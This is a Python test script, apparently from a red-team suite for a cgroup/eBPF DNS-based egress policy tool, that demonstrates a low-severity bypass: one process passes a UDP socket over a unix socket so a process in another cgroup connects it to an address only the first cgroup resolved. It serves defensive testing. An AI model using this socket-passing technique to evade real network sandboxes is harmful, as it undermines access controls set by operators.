#!/usr/bin/env python3
"""ATTACK 5 (two processes of one policy, in targets A and B): which target's learned
addresses a connect() sees. The kernel runs the sock_addr program of the cgroup the SOCKET
was created in (docs: "the cgroup of the socket counts, not the caller's"), but
cgp_dns_target(NULL) takes the CALLER's cgroup (bpf_get_current_ancestor_cgroup_id). So:

  1. A resolves api.example.test (learned for A only).
  2. B creates a UDP socket and passes it to A over a unix socket; A connects it to the
     address (allowed: A's learned entry), and passes it back. B now holds a socket of its
     own cgroup connected to an address B never resolved; B's sends on it are not checked
     again (connected UDP), and network rules, if any, would use the socket's cgroup (B).
  3. Reverse: a socket created in A (which learned) and connected by a process of B is
     refused, although its cgroup learned the address.

This needs A's cooperation (A could proxy B's traffic anyway), so it is an inconsistency
more than a hole; reported as low.

Run as root: .venv/bin/python attack/fd_passing_cross_target.py
"""

from __future__ import annotations

import json
import sys

import common
from resolver import Resolver

RESOLVER = "127.77.3.53"
PY = "/usr/bin/python3"

PEER = r'''
import array, json, os, socket, struct, sys, time
role, path, server = sys.argv[1], sys.argv[2], sys.argv[3]
def send_fd(conn, fd):
    conn.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [fd]))])
def recv_fd(conn):
    msg, anc, _, _ = conn.recvmsg(1, socket.CMSG_SPACE(4))
    return array.array("i", anc[0][2][:4])[0]
def try_connect(sock, addr):
    try:
        sock.connect((addr, 443)); return "ok"
    except OSError as e:
        return os.strerror(e.errno)
if role == "A":
    # resolve, then serve: connect whatever socket B sends, send it back
    q = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); q.settimeout(5)
    name = b"\x03api\x07example\x04test\x00"
    q.sendto(b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + name + b"\x00\x01\x00\x01", (server, 53))
    reply, _ = q.recvfrom(4096)
    addr = socket.inet_ntoa(reply[-4:])
    lst = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM); lst.bind(path); os.chmod(path, 0o777); lst.listen(1)
    own = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    print(json.dumps({"A_learned": addr, "A_connect_own_socket": try_connect(own, addr)}), flush=True)
    conn, _ = lst.accept()
    conn.sendall(addr.encode().ljust(16))
    fd = recv_fd(conn)                 # B's socket
    b_sock = socket.socket(fileno=fd)
    verdict = try_connect(b_sock, addr)
    conn.sendall(verdict.encode().ljust(64))
    send_fd(conn, b_sock.fileno())     # give it back, connected
    a_sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)   # and one of A's, unconnected
    send_fd(conn, a_sock.fileno())
    conn.recv(1)
else:
    conn = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    for _ in range(100):
        try:
            conn.connect(path); break
        except OSError:
            time.sleep(0.05)
    addr = conn.recv(16).decode().strip()
    mine = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    b_direct = try_connect(socket.socket(socket.AF_INET, socket.SOCK_DGRAM), addr)
    send_fd(conn, mine.fileno())
    a_verdict = conn.recv(64).decode().strip()
    back = socket.socket(fileno=recv_fd(conn))
    a_created = socket.socket(fileno=recv_fd(conn))
    try:
        back.send(b"hello"); sent = "sent"
    except OSError as e:
        sent = os.strerror(e.errno)
    print(json.dumps({"B_connect_direct": b_direct,
                      "A_connects_B_created_socket": a_verdict,
                      "B_sends_on_it": sent,
                      "B_connects_A_created_socket": try_connect(a_created, addr)}), flush=True)
    conn.send(b"x")
'''


def main() -> int:
    cgs = common.setup("a", "b")
    spec = {
        "sockets": {"connect": {"default": "deny", "rules": [
            {"action": "allow", "protocol": "udp", "cidrs": [f"{RESOLVER}/32"], "ports": [53]},
            {"action": "allow", "ports": [443], "fqdns": ["api.example.test"]}]}}
    }
    common.cli("apply", str(common.write_policy("fd", common.policy("attack-fd", [cgs["a"], cgs["b"]], spec))))
    server = Resolver(RESOLVER)
    script, path = f"/tmp/{common.TAG}-peer.py", f"/tmp/{common.TAG}.sock"
    open(script, "w").write(PEER)
    import subprocess

    a = subprocess.Popen([*common.NOBODY, PY, script, "A", path, RESOLVER], stdout=subprocess.PIPE, text=True,
                         preexec_fn=lambda: (cgs["a"] / "cgroup.procs").write_text("0"))
    b = common.in_cgroup(cgs["b"], [PY, script, "B", path, RESOLVER])
    print("A:", a.communicate(timeout=30)[0].strip())
    print("B:", b.stdout.strip(), b.stderr.strip()[-300:])
    result = json.loads(b.stdout)
    leak = result["B_connect_direct"] != "ok" and result["A_connects_B_created_socket"] == "ok"
    print("RESULT:", "inconsistent (caller's target decides, not the socket's): B's socket connected to an address only A learned"
          if leak else "held")
    server.close()
    return 0 if leak else 1


if __name__ == "__main__":
    sys.exit(main())
